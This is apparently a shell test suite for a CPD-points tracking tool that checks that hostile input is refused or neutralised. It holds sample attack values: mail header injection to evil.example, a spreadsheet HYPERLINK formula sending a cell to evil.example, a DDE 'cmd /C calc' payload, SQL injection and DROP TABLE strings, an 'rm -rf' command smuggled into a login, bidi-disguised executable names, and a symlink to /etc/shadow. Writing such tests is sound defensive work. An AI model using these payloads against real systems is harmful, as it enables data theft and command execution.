# A catalogue of hostile input: each is refused with its exit status and
# changes nothing, or is stored verbatim where that is right.
setup_scheme
ok ann claim iims-webinar --date 2017-03-01
# The largest single argument Linux passes (128 KiB less a little).
big_note=$(head -c 131000 /dev/zero | tr '\0' x)

TEST "control characters, line breaks and bad UTF-8 in people's fields"
refused 65 "name" sec member add eve --name $'Eve\r\nBcc: x@evil.example' --email eve@example.org
refused 65 "name" sec member add eve --name $'Eve\x07' --email eve@example.org
refused 65 "name" sec member add eve --name $'Eve \xff\xfe' --email eve@example.org
refused 65 "email" sec member add eve --name Eve --email $'eve@example.org\nBcc: x@evil.example'
refused 65 "email" sec member add eve --name Eve --email '"eve"@example.org'
refused 65 "email" sec member add eve --name Eve --email 'eve@example.org>, <x@evil.example'
refused 65 "email" sec member add eve --name Eve --email 'Eve <eve@example.org>'
refused 65 "login" sec member add 'eve;rm -rf' --name Eve --email eve@example.org
refused 65 "login" sec member add '' --name Eve --email eve@example.org
refused 65 "name" sec member add eve --name '' --email eve@example.org

TEST "notes and reasons"
refused 65 "control characters" ann claim iims-webinar --date 2017-03-02 --note $'a\rb'
refused 65 "UTF-8" ann claim iims-webinar --date 2017-03-02 --note $'\xc3\x28'
refused 65 "UTF-8" ann claim iims-webinar --date 2017-03-02 --note $'\xed\xa0\x80' # a surrogate
refused 65 "too long" ann claim iims-webinar --date 2017-03-02 --note "$big_note"
refused 65 "reason" sec decline 1 --reason $'no\x1b[2J'
refused 65 "too long" sec decline 1 --reason "$big_note"
refused 65 "reason" sec exempt ann --year 2017 --reason $'ill\nBcc: x@evil.example'

TEST "text that would read other than it is on the secretary's screen"
rlo=$'\u202e' lri=$'\u2066'
refused 65 "control characters" ann claim iims-webinar --date 2017-03-02 --note "approved by sec${rlo}"
refused 65 "control characters" ann claim iims-webinar --date 2017-03-02 --note "a${lri}b"
refused 65 "name" sec member add eve --name "Eve${rlo}reveS" --email eve@example.org
printf '%%PDF-1.4\n' >"$TESTDIR/cert${rlo}fdp.exe"
refused 65 "holds U\+202E, a control, bidi or invisible character" ann claim technical-paper --attach "$TESTDIR/cert${rlo}fdp.exe"
# A note cannot fake a row of the secretary's table.
ok ann claim iims-webinar --date 2017-03-06 --note $'fine\n  99  bob  iims-training-day  2017-03-01  5'
ok sec pending
expect_equal "$(grep -cE '^ *99 ' <<<"$OUT")" "0"
expect_contains "$OUT" $'fine\u21b5  99  bob'
ok ann claim iims-webinar --date 2017-03-07 --note $'tab\there'
ok sec pending
expect_contains "$OUT" $'tab\u21e5here'

TEST "CSV cells a spreadsheet would run as formulas are neutralised"
ok ann claim iims-webinar --date 2017-03-08 --note '=HYPERLINK("http://evil.example/?"&A1,"click")'
ok ann claim iims-webinar --date 2017-03-09 --note '@SUM(1+1)*cmd|'"' /C calc'"'!A0'
ok ann claim iims-webinar --date 2017-03-10 --note $'\t=1+2'
ok ann history --csv
expect_contains "$OUT" "'=HYPERLINK"
expect_contains "$OUT" "'@SUM"
expect_contains "$OUT" $',\'\t=1+2,'
expect_not_contains "$OUT" ',=HYPERLINK'
ok sec member add minus --name '-2+3' --email minus@example.org
ok sec report --csv
expect_contains "$OUT" "minus,'-2+3,"
ok sec approve 1
ok sec revoke 1 --reason "-1 point for a mistake"
ok ann history --csv
expect_contains "$OUT" "'-1 point for a mistake"
ok ann history --ledger --csv
expect_contains "$OUT" ",revocation,-1,"  # points stay numbers

TEST "a secretary does not grant themself a dispensation"
refused 77 "themself" sec exempt sec --year 2017 --reason "busy"
ok sec member add sue --name "Sue Second" --email sue@example.org --secretary
ok sue exempt sec --year 2017 --reason "on leave"

TEST "SQL metacharacters are data"
ok sec member add "o.brien" --name "Robert'); DROP TABLE member;--" --email "o'brien@example.org"
expect_equal "$(sql "SELECT name, email FROM member WHERE login = 'o.brien'")" "Robert'); DROP TABLE member;--|o'brien@example.org"
refused 1 "unknown activity" ann claim "x' OR '1'='1"
refused 67 "no member" sec balance "' OR 1=1 --"

TEST "points and hours: negative, huge, overflowing, over-precise"
refused 65 "points" sec activity add odd-one --title Odd --points -5
refused 65 "points" sec activity add odd-one --title Odd --points 0
refused 65 "points" sec activity add odd-one --title Odd --points 99999999999999999999
refused 65 "points" sec activity add odd-one --title Odd --points 1.25
refused 65 "points" sec activity add odd-one --title Odd --points 1e3
refused 65 "points" sec activity add odd-one --title Odd --points NaN
refused 65 "not a positive number" ann claim private-study --hours -1
refused 65 "not a positive number" ann claim private-study --hours 0
refused 65 "more than one claim can count" ann claim private-study --hours 92233720368547758.07
refused 65 "more than one claim can count" ann claim private-study --hours 10000.01
refused 65 "not a positive number" ann claim private-study --hours 1.001
refused 65 "not a positive number" ann claim private-study --hours 0x10
ok sec activity add big-one --title Big --points 900000000000000000 --per hour
refused 65 "points out of range|tenths" ann claim big-one --hours 1000

TEST "dates"
for bad in 2017-02-30 0000-01-01 2017-1-5 "" " 2017-03-01" 2017-03-01x 20170301 2017-13-01 -2017-03-01 9999999-01-01; do
  refused 65 "not a date" ann claim iims-webinar --date "$bad"
done
refused 1 "future" ann claim iims-webinar --date 9999-12-31
refused 65 "not a year" ann balance --year -1
refused 65 "not a year" ann balance --year 99999

TEST "claim ids"
refused 1 "no claim #424242" sec approve 424242
refused 65 "not a claim id" sec approve -- -1
refused 65 "not a claim id" sec approve 1.5
refused 65 "not a claim id" sec approve 1e2
refused 65 "not a claim id" sec approve ''
refused 65 "not a claim id" sec withdraw 18446744073709551617
refused 65 "not a claim id" ann withdraw '#'

TEST "attachment names and paths"
mkdir -p "$TESTDIR/odd"
printf '%%PDF-1.4\n' >"$TESTDIR/odd/$(printf 'we\x01ird.pdf')"
refused 65 "holds U\+0001, a control, bidi or invisible character" ann claim technical-paper --attach "$TESTDIR/odd/$(printf 'we\x01ird.pdf')"
printf '%%PDF-1.4\n' >"$TESTDIR/odd/..pdf"
ok ann claim technical-paper --attach "$TESTDIR/odd/../odd/..pdf" --date 2017-03-03
expect_equal "$(sql "SELECT name FROM attachment")" "..pdf"
refused 66 "" ann claim technical-paper --attach "$TESTDIR/odd/"
refused 66 "" ann claim technical-paper --attach /dev/null/x
ln -s /etc/shadow "$TESTDIR/odd/link.pdf"
if [ "$(id -u)" != 0 ]; then
  refused 66 "" ann claim technical-paper --attach "$TESTDIR/odd/link.pdf"
fi

TEST "databases that are not usable"
printf 'not sqlite at all\n' >"$TESTDIR/text.db"
refused 65 "not a cpd database" sec --db "$TESTDIR/text.db" balance
head -c 3000 "$CPD_DB" >"$TESTDIR/truncated.db"
refused 65 "not a cpd database|damaged" sec --db "$TESTDIR/truncated.db" balance
cp "$CPD_DB" "$TESTDIR/newer.db"
sqlite3 "$TESTDIR/newer.db" "PRAGMA user_version = 99"
refused 65 "newer cpd" sec --db "$TESTDIR/newer.db" balance
sqlite3 "$TESTDIR/foreign.db" "CREATE TABLE member(x)"
refused 65 "not a cpd database" sec --db "$TESTDIR/foreign.db" balance
if [ "$(id -u)" != 0 ]; then
  cp "$CPD_DB" "$TESTDIR/readonly.db"
  chmod 444 "$TESTDIR/readonly.db"
  refused 74 "cannot be written" sec --db "$TESTDIR/readonly.db" claim iims-webinar
fi

TEST "a full disk loses nothing"
full=$TESTDIR/full
mkdir -p "$full"
if mount -t tmpfs -o size=600k tmpfs "$full" 2>/dev/null; then
  cp "$CPD_DB" "$full/cpd.db"
  before=$(sqlite3 "$full/cpd.db" "SELECT count(*) FROM claim")
  head -c 400000 /dev/urandom >"$TESTDIR/big.pdf"
  ok sec --db "$full/cpd.db" config set attach.max_file_bytes 1000000
  run ann --db "$full/cpd.db" claim technical-paper --attach "$TESTDIR/big.pdf" --date 2017-03-04
  run ann --db "$full/cpd.db" claim technical-paper --attach "$TESTDIR/big.pdf" --date 2017-03-05
  expect_equal "$STATUS" 74
  expect_contains "$ERR" "disk is full"
  ok sec --db "$full/cpd.db" check
  expect_equal "$(sqlite3 "$full/cpd.db" "SELECT count(*) FROM claim WHERE activity_date = '2017-03-05'")" "0"
  umount "$full"
else
  cannot_check "a small tmpfs cannot be mounted here (needs root): the full disk"
fi
